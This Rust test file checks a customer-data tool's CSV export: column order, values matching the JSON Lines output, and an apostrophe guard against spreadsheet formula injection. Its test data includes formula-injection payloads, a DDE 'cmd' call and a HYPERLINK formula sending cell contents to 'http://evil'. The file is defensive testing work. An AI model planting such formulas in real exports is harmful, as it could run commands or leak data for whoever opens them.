//! Exports as CSV: the columns, what the cells say, and how other programs read them.

use std::path::Path;
use std::process::Command;

use csv::Reader;
use csv::StringRecord;
use serde_json::Value;
use serde_json::json;

use super::done;
use super::errors;
use super::one_customer;
use super::order;
use super::parsed;
use super::profile;
use super::replay;

/// Ids and categories that have a meaning in a spreadsheet, in CSV, or to a reader that guesses.
const TEXTS: [&str; 26] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil/?\"&A1)",
    "-5",
    "-1.5e3",
    "+49 30 1234",
    "@SUM(1+1)",
    " =1+1",
    "'=1+1",
    "''-1",
    "'t Hooft",
    "＝1+1",
    "－5",
    "a,b",
    "a;b",
    "a\"b",
    "\"",
    "0042",
    "1e5",
    "NA",
    "None",
    "nan",
    "true",
    "2026-01-01",
    "Zoë 😀",
    "{\"a\": 1}",
    " spaced ",
];

/// A customer for each text, who buys in a category of that name; every fourth one has no purchase, only a profile.
fn with_texts() -> Vec<Value> {
    let mut events = Vec::new();
    for (number, id) in (1..).zip(TEXTS) {
        if number % 4 == 0 {
            events.push(profile(number, id, "2026-03-01T00:00:00Z"));
            continue;
        }
        let mut event = order(number, id, "2026-03-01T09:30:00Z", "1234567.89");
        event["products"] = json!([
            {"category": id, "price": "0.10"}, {"category": "tab\tline\nquote\"", "price": "5"},
        ]);
        events.push(event);
    }
    events
}

/// The value of a cell, with the apostrophe off where the guard has put it: docs/COMMAND_LINE.md, CSV.
fn unguarded(cell: &str) -> &str {
    let Some(rest) = cell.strip_prefix('\'') else {
        return cell;
    };
    let behind = rest.trim_start_matches('\'').trim_start();
    let begins = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
    if behind.starts_with(begins) {
        rest
    } else {
        cell
    }
}

/// The value of a column as JSON Lines have it.
fn cell_of(line: &Value, column: &str) -> String {
    let value = match column.split_once('.') {
        Some((object, member)) => line.get(object).and_then(|object| object.get(member)),
        None => line.get(column),
    };
    match value {
        None => String::new(),
        Some(Value::String(text)) => text.clone(),
        Some(other) => other.to_string(),
    }
}

#[test]
fn a_csv_has_the_same_columns_whatever_the_customers_have_and_says_what_json_lines_say() {
    let root = tempfile::tempdir().unwrap();
    let empty = tempfile::tempdir().unwrap();
    replay(root.path(), &with_texts(), &[]);
    replay(
        empty.path(),
        &[profile(1, "c-1", "2026-03-01T00:00:00Z")],
        &[],
    );
    let as_of = ["state", "export", "--as-of", "2026-12-24T18:00:00Z"];
    let lines = parsed(&done(root.path(), &as_of));
    let csv = [&as_of[..], &["--format", "csv"]].concat();
    let header = done(empty.path(), &csv);
    let header = header.lines().next().unwrap();
    for is_raw in [false, true] {
        let extra: &[&str] = if is_raw { &["--csv-raw"] } else { &[] };
        let written = done(root.path(), &[&csv, extra].concat());
        assert_eq!(written.lines().next(), Some(header));
        assert!(!written.starts_with('\u{feff}'));
        let mut reader = Reader::from_reader(written.as_bytes());
        let columns: Vec<String> = reader
            .headers()
            .unwrap()
            .iter()
            .map(str::to_owned)
            .collect();
        let records: Vec<StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(records.len(), lines.len());
        let mut guarded = 0;
        for (record, line) in records.iter().zip(&lines) {
            for (column, cell) in columns.iter().zip(record) {
                let read = if is_raw { cell } else { unguarded(cell) };
                guarded += u64::from(read != cell);
                assert_eq!(read, cell_of(line, column), "{column}");
                let begins = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
                assert!(is_raw || !begins, "{column}: {cell}");
            }
        }
        // The texts above that begin with one of the eight characters, after apostrophes and spaces.
        assert_eq!(guarded, if is_raw { 0 } else { 11 });
    }
}

/// Every field of the page has a column: its own name, or names that begin with it.
#[test]
fn the_columns_of_a_csv_are_the_fields_of_an_export_in_their_order() {
    let root = tempfile::tempdir().unwrap();
    replay(root.path(), &one_customer(), &[]);
    let written = done(root.path(), &["state", "export", "--format", "csv"]);
    let expected = "customer_id,segment_id,model_version,sequence,orders,purchase_days,web_purchases,store_purchases,\
        catalog_purchases,deal_purchases,total_spending,currency,first_purchase_at,last_purchase_at,evaluated_at,as_of,\
        spend_by_category,birth_year,income,joined_at,\"features.age\",\"features.income\",\"features.total_spending\",\
        \"features.web_purchases\",\"features.store_purchases\",\"features.recency_days\",confidence,next_change_at,\
        churn_risk.score,churn_risk.band,churn_risk.method";
    assert_eq!(written.lines().next(), Some(expected));
    let line = done(root.path(), &["state", "export"]);
    let line: Value = serde_json::from_str(&line).unwrap();
    for field in line.as_object().unwrap().keys() {
        let begins = format!("{field}.");
        let mut columns = expected.split(',').map(|column| column.trim_matches('"'));
        assert!(
            columns.any(|column| column == field || column.starts_with(&begins)),
            "{field}"
        );
    }
}

/// More customers without a profile than the 20,480 rows in which DuckDB finds types by default, and three with one behind
/// them.
fn with_late_profiles() -> Vec<Value> {
    let at = "2026-03-01T09:30:00Z";
    let orders = (0..20_500).map(|number| order(number, &format!("c{number:06}"), at, "5"));
    let profiles = (20_500..20_503).map(|number| profile(number, &format!("z{number}"), at));
    orders.chain(profiles).collect()
}

/// An interpreter that has pandas and DuckDB, or the reason why the test is skipped.
fn python() -> Option<String> {
    let given = std::env::var("SEGSTREAM_TEST_PYTHON");
    let interpreter = given.unwrap_or_else(|_| "python3".to_owned());
    let mut check = Command::new(&interpreter);
    check.args(["-c", "import pandas, duckdb"]);
    let output = check.output();
    if output.as_ref().is_ok_and(|output| output.status.success()) {
        return Some(interpreter);
    }
    let is_required = std::env::var("SEGSTREAM_REQUIRE_PYTHON").is_ok_and(|value| value == "1");
    assert!(!is_required, "{interpreter}: {output:?}");
    eprintln!("skipped: {interpreter} has no pandas and duckdb (set SEGSTREAM_TEST_PYTHON)");
    None
}

#[test]
fn pandas_and_duckdb_read_a_csv_as_json_lines_say() {
    let Some(python) = python() else { return };
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/export/read_back.py");
    let root = tempfile::tempdir().unwrap();
    replay(root.path(), &with_texts(), &[]);
    let shop = tempfile::tempdir().unwrap();
    let events = shop.path().join("events.jsonl");
    let events = events.to_str().unwrap();
    done_plain(&[
        "simulate",
        "--customers",
        "800",
        "--days",
        "120",
        "--out",
        events,
    ]);
    done(
        shop.path(),
        &[
            "replay",
            "--input",
            events,
            "--format",
            "jsonl",
            "--max-rejected",
            "1000",
        ],
    );
    let wide = tempfile::tempdir().unwrap();
    replay(wide.path(), &with_late_profiles(), &[]);
    for (folder, extra) in [
        (root.path(), &[][..]),
        (root.path(), &["--csv-raw"]),
        (shop.path(), &[]),
        (wide.path(), &[]),
    ] {
        let (lines, csv) = (folder.join("lines.jsonl"), folder.join("lines.csv"));
        let to = |path: &Path, format: &str| {
            let mut arguments = vec!["state", "export", "--as-of", "2026-12-24T18:00:00Z"];
            arguments.extend(["--format", format, "--out", path.to_str().unwrap()]);
            if format == "csv" {
                arguments.extend(extra);
            }
            done(folder, &arguments)
        };
        assert_eq!(to(&lines, "jsonl") + &to(&csv, "csv"), "");
        let mut read = Command::new(&python);
        read.arg(&script).arg(&csv).arg(&lines).args(extra);
        let output = read.output().unwrap();
        assert!(output.status.success(), "{extra:?}: {}", errors(&output));
    }
}

/// A command that reads no state.
fn done_plain(arguments: &[&str]) {
    let mut command = Command::new(env!("CARGO_BIN_EXE_segstream"));
    let output = command.args(arguments).output().unwrap();
    assert!(output.status.success(), "{}", errors(&output));
}
